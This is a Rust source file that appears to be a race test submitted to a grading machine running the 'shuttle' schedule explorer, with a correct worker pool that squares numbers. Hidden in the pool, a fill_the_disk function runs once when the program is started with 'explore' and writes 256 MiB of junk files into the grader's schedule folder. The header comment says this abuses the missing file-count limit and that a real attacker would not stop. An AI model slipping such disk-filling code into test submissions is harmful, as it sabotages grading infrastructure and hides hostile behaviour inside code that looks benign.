// A race test may write where shuttle keeps failing schedules, a folder on the
// grading machine's own disk: the case file's path with `.schedules` for
// `.bin`. Each file stays under the 16 MiB file size limit, but nothing limits
// how many there are. I stop at 256 MiB a test to be nice; a real attacker
// would not. The pool itself is correct.
use std::sync::{Arc, Mutex};
use std::thread;

fn fill_the_disk() {
    let Some(case) = std::env::args().nth(2) else { return };
    let Some(folder) = case.strip_suffix(".bin").map(|stem| format!("{stem}.schedules")) else { return };
    let block = vec![b'x'; 8 << 20];
    for index in 0..32 {
        if std::fs::write(format!("{folder}/schedule{index:04}.bin"), &block).is_err() {
            return;
        }
    }
}

fn worker_pool(jobs: Vec<u32>, workers: usize) -> Vec<(u32, u32)> {
    static ONCE: core::sync::atomic::AtomicBool = core::sync::atomic::AtomicBool::new(false);
    if std::env::args().nth(1).as_deref() == Some("explore") && !ONCE.swap(true, core::sync::atomic::Ordering::SeqCst) {
        fill_the_disk();
    }
    let queue = Arc::new(Mutex::new(jobs));
    let results = Arc::new(Mutex::new(Vec::new()));
    let handles: Vec<_> = (0..workers.max(1))
        .map(|_| {
            let (queue, results) = (Arc::clone(&queue), Arc::clone(&results));
            thread::spawn(move || loop {
                let Some(n) = queue.lock().unwrap().pop() else { break };
                results.lock().unwrap().push((n, n * n));
            })
        })
        .collect();
    for handle in handles {
        handle.join().unwrap();
    }
    let mut pairs = results.lock().unwrap().clone();
    pairs.sort();
    pairs
}

fn main() {
    println!("{:?}", worker_pool((1..=10).collect(), 4));
}
